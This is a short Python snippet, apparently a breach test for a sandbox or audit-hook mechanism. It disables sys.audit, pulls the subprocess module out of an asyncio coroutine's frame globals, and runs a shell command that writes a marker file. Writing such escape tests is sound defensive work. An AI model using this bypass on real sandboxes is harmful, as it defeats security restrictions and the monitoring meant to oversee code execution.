# The frame of a coroutine of asyncio holds the module subprocess.
# breach: marker
import sys
sys.audit = lambda *arguments: None
import asyncio
start = asyncio.create_subprocess_exec("true")
module = start.cr_frame.f_globals["subprocess"]
start.close()
module.call(["sh", "-c", f"echo > {MARKER_FILE}"])
